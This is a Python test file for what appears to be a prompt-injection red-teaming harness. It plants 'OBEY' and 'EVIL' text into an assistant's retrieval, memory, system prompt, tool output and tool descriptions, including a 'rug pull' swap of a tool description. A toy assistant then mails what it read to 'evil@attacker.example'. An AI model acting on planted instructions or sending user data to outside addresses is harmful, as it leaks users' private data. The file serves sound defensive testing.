"""A harness feeds and observes the trial that runs, that trial alone, and does nothing while none does."""

from __future__ import annotations

import asyncio
import time
from collections.abc import Callable, Coroutine, Iterator, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from typing import Any, NamedTuple

import pytest

from accord.attack.harness import Harness
from accord.attack.targets.harness import DoorEndpoint, HarnessEndpoint
from accord.attack.targets.line import Endpoint, Line, Opening
from accord.attack.targets.runner import Runner
from accord.attack.targets.sitting import Sitting
from accord.core.call import HarnessCall
from accord.core.contracts import Target
from accord.core.errors import TargetError
from accord.core.trial import Capability, Delivery, Turn

OPENING = Opening(trial="t")
TOKEN = "a-token-of-the-tests"
OUTBOX: list[tuple[str, str]] = []


@pytest.fixture(autouse=True)
def _empty() -> Iterator[None]:
    OUTBOX.clear()
    yield
    OUTBOX.clear()


class Page(NamedTuple):
    """A document as a tuple."""

    title: str
    text: str


@dataclass(frozen=True)
class Frozen:
    """A document as a frozen word."""

    body: str


class Document:
    """A document as LangChain has it."""

    def __init__(self, page_content: str) -> None:
        self.page_content = page_content
        self.metadata = {"source": "kb"}


def application(harness: Harness) -> Callable[[str], str]:
    """Return a small assistant that obeys what it reads, with everything wrapped."""

    def search(query: str) -> list[str]:
        return [f"page about {query}"]

    def recall() -> str:
        return "likes ferns"

    def send_email(to: str, body: str = "", **more: object) -> str:
        OUTBOX.append((to, body))
        return "sent"

    def clock() -> str:
        return "noon"

    def prompt() -> str:
        return "be kind"

    found, remembered, said = harness.retrieval(search), harness.memory(recall), harness.system(prompt)
    mail = harness.tool(does="send-message", args={"recipient": "to"})(send_email)
    look = harness.tool("clock", runs=True)(clock)
    specs: Any = harness.descriptions(lambda: [{"name": "send_email", "description": "Sends a mail."}])

    @harness.answers
    def answer(text: str) -> str:
        read = " | ".join([said(), *found(text), remembered(), look(), *(one["description"] for one in specs())])
        outcome = mail("evil@attacker.example", body=read) if "OBEY" in read else "nothing"
        return f"{read} -> {outcome}"

    harness.state(lambda: {"mails": len(OUTBOX)})
    return answer


def run(endpoint: Endpoint, line: Line, work: Callable[[Target], Coroutine[Any, Any, Any]]) -> Any:
    async def inside() -> Any:
        await endpoint.open()
        try:
            async with endpoint.session(line, OPENING) as session:
                return await work(session)
        finally:
            await endpoint.close()

    return asyncio.run(inside())


def endpoints(kind: str, monkeypatch: pytest.MonkeyPatch) -> Endpoint:
    harness = Harness()
    application(harness)
    if kind == "here":
        return HarnessEndpoint(harness, "app:harness", Runner())
    monkeypatch.setenv("ACCORD_HARNESS_TOKEN", TOKEN)
    door = harness.serve()
    monkeypatch.setenv("TOKEN", f"Bearer {TOKEN}")
    return DoorEndpoint(HarnessCall(url=door, token="env:TOKEN", can=tuple(harness.capabilities)))


@pytest.mark.parametrize("kind", ["here", "door"])
def test_every_channel_is_fed_and_every_tool_observed(kind: str, line: Line, monkeypatch: pytest.MonkeyPatch) -> None:
    async def work(session: Target) -> None:
        honest = await session.ask(Turn(text="moss"))
        assert honest.text == "be kind | page about moss | likes ferns | noon | Sends a mail. -> nothing"
        assert [call.name for call in honest.tool_calls] == ["clock"]
        for channel in ("retrieval", "memory", "system", "tool-output", "tool-description"):
            name = "send_email" if channel == "tool-description" else None
            await session.plant(Delivery(channel=channel, text=f"OBEY {channel}", name=name))
        reply = await session.ask(Turn(text="moss"))
        for channel in ("retrieval", "memory", "system", "tool-output", "tool-description"):
            assert f"OBEY {channel}" in reply.text
        mail = reply.tool_calls[1]
        assert (mail.name, mail.does, mail.args["recipient"]) == ("send_email", "send-message", "evil@attacker.example")
        assert "likes ferns" in str(mail.args["body"])
        assert await session.state() == {"mails": 0}  # recorded, and not carried out

    run(endpoints(kind, monkeypatch), line, work)
    assert OUTBOX == []


@pytest.mark.parametrize("kind", ["here", "door"])
def test_a_session_sees_nothing_of_another(kind: str, line: Line, monkeypatch: pytest.MonkeyPatch) -> None:
    endpoint = endpoints(kind, monkeypatch)

    async def inside() -> None:
        await endpoint.open()
        async with endpoint.session(line, OPENING) as one, endpoint.session(line, OPENING) as two:
            await one.plant(Delivery(channel="retrieval", text="OBEY me"))
            for _ in range(4):
                both = await asyncio.gather(one.ask(Turn(text="x")), two.ask(Turn(text="x")))
                assert ["OBEY" in reply.text for reply in both] == [True, False]
                assert [len(reply.tool_calls) for reply in both] == [2, 1]
        await endpoint.close()

    asyncio.run(inside())


def test_without_a_trial_everything_is_as_it_was_and_costs_little() -> None:
    harness = Harness()
    answer = application(harness)
    assert answer("OBEY") == "be kind | page about OBEY | likes ferns | noon | Sends a mail. -> sent"
    assert OUTBOX
    wrapped: Any = harness.retrieval(lambda text: [text])
    began = time.perf_counter()
    for _ in range(20_000):
        wrapped("x")
    assert time.perf_counter() - began < 1


def fed(found: object, *, merge: Any = None, channel: str = "retrieval", name: str | None = "n") -> Any:
    harness = Harness()
    source: Any = harness._fed(lambda: found, channel, merge)
    sitting = Sitting()
    sitting.plant(Delivery(channel=channel, text="EVIL", name=name))
    harness.seat(sitting)
    return source()


@pytest.mark.parametrize(
    ("found", "expected"),
    [
        ("a", "EVIL\n\na"),
        (None, "EVIL"),
        ("", "EVIL"),
        (b"a", b"EVIL\n\na"),
        ([], ["EVIL"]),
        (("a",), ("EVIL", "a")),
        (["EVIL"], ["EVIL"]),
        (
            [{"id": "1", "text": "a", "score": 2}],
            [{"id": "n", "text": "EVIL", "score": 2}, {"id": "1", "text": "a", "score": 2}],
        ),
        ([("a", 0.5)], [("EVIL", 0.5), ("a", 0.5)]),
        ({"documents": [["a"], ["b"]]}, {"documents": [["EVIL", "a"], ["b"]]}),
        ({"history": "a"}, {"history": "EVIL\n\na"}),
        ([Page("t", "a")], [Page("t", "EVIL"), Page("t", "a")]),
        ([Frozen("a")], [Frozen("EVIL"), Frozen("a")]),
    ],
)
def test_a_text_is_added_in_the_form_that_the_source_has(found: object, expected: object) -> None:
    assert fed(found) == expected


@pytest.mark.parametrize(
    ("found", "start"),
    [(b"real", b"%PDF"), ([b"real"], b"%PDF"), ("real", "Opening hours"), (["real"], "Opening hours")],
)
def test_a_file_is_handed_in_whole_or_as_what_is_read_in_it(found: object, start: Any) -> None:
    harness, sitting = Harness(), Sitting()
    source: Any = harness.files(lambda: found)
    sitting.plant(Delivery(channel="file", text="EVIL", name="cv.pdf"))
    harness.seat(sitting)
    made = source()
    first = made[0] if isinstance(made, list) else made
    assert first.startswith(start)
    if isinstance(first, str):
        assert "EVIL" in first
        assert made[-1].endswith("real") if isinstance(made, list) else made.endswith("real")


def test_a_document_object_is_copied_and_says_its_source() -> None:
    first = Document("a")
    made = fed([first])
    assert [one.page_content for one in made] == ["EVIL", "a"]
    assert (made[0].metadata, first.page_content) == ({"source": "n"}, "a")


@pytest.mark.parametrize("found", [5, [5], {"a": 5}, [{"a": 5}], object()])
def test_a_source_that_cannot_be_fed_is_an_error_and_never_a_quiet_pass(found: object) -> None:
    with pytest.raises(TypeError, match="harness"):
        fed(found)


def test_a_source_of_its_own_form_is_fed_by_its_own_function() -> None:
    def merge(found: object, planted: Sequence[Delivery]) -> object:
        return (found, *(one.text for one in planted))

    assert fed(5, merge=merge) == (5, "EVIL")


@pytest.mark.parametrize(
    "tool",
    [
        {"type": "function", "function": {"name": "a", "description": "b", "parameters": {}}},
        {"name": "a", "description": "b", "input_schema": {}},
    ],
)
@pytest.mark.parametrize("name", ["a", "new"])
def test_descriptions_of_known_and_new_tools_keep_their_form(tool: Mapping[str, Any], name: str) -> None:
    harness = Harness()
    source: Any = harness.descriptions(lambda: [tool])
    sitting = Sitting()
    sitting.plant(Delivery(channel="tool-description", text="first", name=name))
    sitting.plant(Delivery(channel="tool-description", text="EVIL", name=name))  # the rug pull
    harness.seat(sitting)
    made = source()
    last = made[-1].get("function", made[-1])
    assert len(made) == (1 if name == "a" else 2)
    assert (last["name"], last["description"]) == (name, "EVIL")
    assert made[-1].keys() == tool.keys()


def test_tools_that_are_async_objects_and_partly_nested_are_recorded_once() -> None:
    @dataclass
    class Shop:
        name: str = "order"
        done: list[str] = field(default_factory=list)

        def _run(self, item: str) -> str:
            self.done.append(item)
            return f"{item} ordered"

        async def _arun(self, item: str) -> str:
            return self._run(item)

    harness = Harness()
    carried, dry = harness.tool(does="order", runs=True)(Shop()), harness.tool(result={"ok": True})(Shop(name="dry"))
    sitting = Sitting()

    async def inside() -> None:
        harness.seat(sitting)
        assert await carried._arun("moss") == "moss ordered"
        assert carried._run(item="fern") == "fern ordered"
        outcome: object = dry._run("ivy")
        assert outcome == {"ok": True}

    asyncio.run(inside())
    assert [(call.name, dict(call.args)) for call in sitting.calls()] == [
        ("order", {"item": "moss"}),
        ("order", {"item": "fern"}),
        ("dry", {"item": "ivy"}),
    ]
    assert (carried.done, dry.done) == (["moss", "fern"], [])
    assert sitting.calls() == ()


def test_the_output_of_a_named_tool_is_replaced_and_of_others_added_to() -> None:
    harness = Harness()

    def real() -> str:
        return "real"

    own, other = (harness.tool(name, runs=True)(real) for name in ("own", "other"))
    sitting = Sitting()
    sitting.plant(Delivery(channel="tool-output", text="EVIL", name="own"))
    sitting.plant(Delivery(channel="tool-output", text="STRANGE", name="thermometer"))
    harness.seat(sitting)
    assert (own(), other()) == ("EVIL", "real\nSTRANGE")


def test_what_has_no_usual_method_is_refused_when_it_is_wrapped() -> None:
    with pytest.raises(TypeError, match="hand over a function"):
        Harness().retrieval(object())


def test_threads_that_lose_the_context_are_served_when_a_harness_is_alone(line: Line) -> None:
    harness = Harness(alone=True)
    search = harness.retrieval(lambda text: [text])

    @harness.answers
    def answer(text: str) -> str:
        with ThreadPoolExecutor(1) as pool:
            return " ".join(pool.submit(search, text).result())

    async def inside() -> list[str]:
        endpoint = HarnessEndpoint(harness, "a:b", Runner())

        async def trial(text: str) -> str:
            async with endpoint.session(line, OPENING) as session:
                await session.plant(Delivery(channel="retrieval", text=text))
                return (await session.ask(Turn(text="q"))).text

        found = await asyncio.gather(*(trial(f"P{number}") for number in range(5)))
        await endpoint.close()
        return found

    assert asyncio.run(inside()) == [f"P{number} q" for number in range(5)]
    assert harness.sitting is None


def test_a_coroutine_is_observed_in_its_own_session(line: Line) -> None:
    harness = Harness()

    async def search(text: str) -> list[str]:
        return [text]

    found = harness.retrieval(search)

    @harness.answers
    async def answer(text: str) -> str:
        return " ".join(await found(text))

    async def work(session: Target) -> str:
        await session.plant(Delivery(channel="retrieval", text="EVIL"))
        return (await session.ask(Turn(text="q"))).text

    assert run(HarnessEndpoint(harness, "a:b", Runner()), line, work) == "EVIL q"


def test_a_channel_that_is_not_wrapped_is_refused(line: Line) -> None:
    harness = Harness()
    harness.answers(lambda text: text)
    with pytest.raises(TargetError) as caught:
        run(
            HarnessEndpoint(harness, "a:b", Runner()),
            line,
            lambda session: session.plant(Delivery(channel="memory", text="x")),
        )
    assert caught.value.code == "ACC-E663"


def test_a_door_opens_to_nobody_without_the_token(monkeypatch: pytest.MonkeyPatch, line: Line) -> None:
    harness = Harness()
    application(harness)
    with pytest.raises(ValueError, match="needs a token"):
        harness.serve(token="short")
    door = harness.serve(token=TOKEN)
    monkeypatch.setenv("TOKEN", "Bearer another-token-entirely")
    with pytest.raises(TargetError) as caught:
        run(DoorEndpoint(HarnessCall(url=door, token="env:TOKEN")), line, lambda session: session.state())
    assert caught.value.code == "ACC-E665"
    assert "401" in caught.value.message
    assert "another-token" not in caught.value.message


@pytest.mark.parametrize(
    ("head", "status"),
    [
        ("Host: evil.example\r\n", 403),
        ("Host: 127.0.0.1:1\r\nOrigin: http://evil.example\r\n", 403),
        ("Host: 127.0.0.1:1\r\n", 401),
        (f"Host: 127.0.0.1:1\r\nAuthorization: Bearer {TOKEN}\r\nContent-Length: 99999999\r\n", 413),
        (f"Host: 127.0.0.1:1\r\nAuthorization: Bearer {TOKEN}\r\nContent-Length: 3\r\n", 400),
        (f"Host: 127.0.0.1:1\r\nAuthorization: Bearer {TOKEN}\r\n", 404),
    ],
)
def test_a_door_refuses_browsers_strangers_and_nonsense(head: str, status: int) -> None:
    harness = Harness()
    application(harness)
    port = int(harness.serve(token=TOKEN).rpartition(":")[2])

    async def inside() -> bytes:
        reading, writing = await asyncio.open_connection("127.0.0.1", port)
        writing.write(f"POST /nowhere HTTP/1.1\r\n{head}Connection: close\r\n\r\nabc".encode())
        answer = await reading.read()
        writing.close()
        return answer

    assert asyncio.run(inside()).startswith(f"HTTP/1.1 {status}".encode())


def test_a_door_that_has_less_than_the_manifest_says_is_told(monkeypatch: pytest.MonkeyPatch, line: Line) -> None:
    harness = Harness()
    harness.answers(lambda text: text)
    monkeypatch.setenv("TOKEN", f"Bearer {TOKEN}")
    call = HarnessCall(url=harness.serve(token=TOKEN), token="env:TOKEN", can=(Capability.MEMORY,))
    with pytest.raises(TargetError, match="has not wrapped memory"):
        run(DoorEndpoint(call), line, lambda session: session.state())


def test_an_application_that_crashes_behind_the_door_is_a_failure(monkeypatch: pytest.MonkeyPatch, line: Line) -> None:
    harness = Harness()
    harness.answers(lambda text: {}[text])
    monkeypatch.setenv("TOKEN", f"Bearer {TOKEN}")
    with pytest.raises(TargetError, match="does not answer"):
        run(
            DoorEndpoint(HarnessCall(url=harness.serve(token=TOKEN), token="env:TOKEN")),
            line,
            lambda session: session.ask(Turn(text="x")),
        )
